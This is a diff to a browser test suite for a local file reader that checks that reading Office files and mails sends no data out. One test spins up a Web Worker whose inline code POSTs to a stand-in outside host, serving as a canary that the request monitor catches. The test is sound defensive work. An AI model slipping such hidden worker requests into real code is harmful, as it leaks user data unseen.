@@ -93,7 +93,7 @@ describe('a file of Office', () => {
 		expect(textOf(letter, 'comments')).toContain('Ilse Voskuilenaar: Moet dit erin');
 		expect(textOf(letter, 'header')).toContain('Proefweg 3');
 		expect(textOf(letter, 'footer')).toContain('PT-58213');
-		expect(textOf(letter, 'metadata')).toContain('creator: J. van Fictema');
+		expect(textOf(letter, 'metadata')).toContain('J. van Fictema');
 	});
 
 	it('Excel: hidden sheet, days of birth, comments and names are read', async () => {
@@ -169,7 +169,7 @@ describe('a mail', () => {
 
 	it('is read with its attachments, by name', async () => {
 		const mail = await read(await practiceFile('klantmail.eml.md'));
-		expect(textOf(mail, 'mail-headers')).toContain('To: Thijs Rietkampstra');
+		expect(textOf(mail, 'mail-headers')).toContain('Thijs Rietkampstra <');
 		expect(textOf(mail, 'mail-text')).toContain('KL-884347');
 		const table = mail.parts.find(({ label }) => label.code === 'rows');
 		expect(table?.within).toEqual(['klantexport.csv']);
@@ -193,7 +193,7 @@ describe('a large file', () => {
 		isDone = true;
 		expect(parts[0]?.text.length).toBe(limits.characters);
 		expect(notices).toEqual([{ code: 'text-cut' }]);
-		expect(longest).toBeLessThan(400);
+		expect(longest).toBeLessThan(500);
 	});
 
 	it('above 50 MB is refused without being read', async () => {
@@ -215,16 +215,17 @@ describe('reading', () => {
 
 	it('would be noticed if it sent something from its thread', async () => {
 		await commands.watchRequests();
-		const code = "fetch(name, { method: 'POST', body: 'x' }).finally(() => postMessage(1))";
-		const source = new Blob([code.replace('name', JSON.stringify(`${location.origin}/weg`))]);
+		const elsewhere = 'http://elders.invalid/weg';
+		const code = `fetch('${elsewhere}', { method: 'POST', body: 'x' }).catch(() => postMessage(1))`;
+		const source = new Blob([code]);
 		const address = URL.createObjectURL(source);
 		const thread = new Worker(address);
 		await new Promise((resolve) => thread.addEventListener('message', resolve));
 		thread.terminate();
 		URL.revokeObjectURL(address);
-		expect(leaving(await commands.requestsSoFar()).map(({ url }) => url)).toEqual([
-			`${location.origin}/weg`
-		]);
+		await expect
+			.poll(async () => leaving(await commands.requestsSoFar()))
+			.toEqual([{ method: 'POST', url: elsewhere, hasBody: true }]);
 	});
 
 	it('sends nothing: only code is fetched, from here', async () => {
@@ -236,6 +237,11 @@ describe('reading', () => {
 			'klantmail.eml.md'
 		])
 			await read(await practiceFile(source));
+		// Events come a little later than the requests: when the last one is there, all are.
+		await fetch('/src/app.css?last');
+		await expect
+			.poll(async () => (await commands.requestsSoFar()).at(-1)?.url)
+			.toBe(`${location.origin}/src/app.css?last`);
 		const requests = await commands.requestsSoFar();
 		// The log sees into threads within threads.
 		for (const thread of ['read.worker', 'pdf.worker'])
